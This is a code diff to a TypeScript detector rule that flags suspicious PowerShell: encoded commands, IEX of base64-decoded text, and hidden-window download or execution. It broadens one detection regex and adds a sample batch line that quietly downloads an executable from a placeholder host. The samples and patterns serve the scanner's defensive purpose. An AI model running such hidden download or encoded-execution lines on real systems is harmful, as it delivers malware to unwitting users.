@@ -3,7 +3,7 @@ import type { FileCheck } from '../../check.ts';
 const FORMS: readonly RegExp[] = [
   /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,160}?\s-(?:e|en|enc|enco|encodedcommand)\s{1,4}["']?[A-Za-z0-9+/=]{24,}/gi,
   /\b(?:iex|invoke-expression)\b[^\n]{0,120}frombase64string\s{0,2}\([^\n]{0,40}/gi,
-  /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,120}\s-w(?:in|indowstyle)?\s{1,3}hidden\b[^\n]{0,160}(?:downloadstring|iex\b|invoke-expression|frombase64)/gi,
+  /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,120}\s-w(?:in|indowstyle)?\s{1,3}hidden\b[^\n]{0,160}(?:downloadstring|downloadfile|iex\b|invoke-expression|frombase64|invoke-webrequest|\biwr\b)/gi,
 ];
 
 export const check: FileCheck = {
@@ -23,6 +23,9 @@ export const check: FileCheck = {
   examples: {
     bad: [
       { 'run.js': "exec('«powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA»');\n" },
+      {
+        'a.bat': `«powershell -w hidden -c "(New-Object Net.WebClient).DownloadFile»('https://c.example.net/a.exe', 'a.exe')"\n`,
+      },
       { 'start.ps1': '«IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($data)))»\n' },
     ],
     good: [
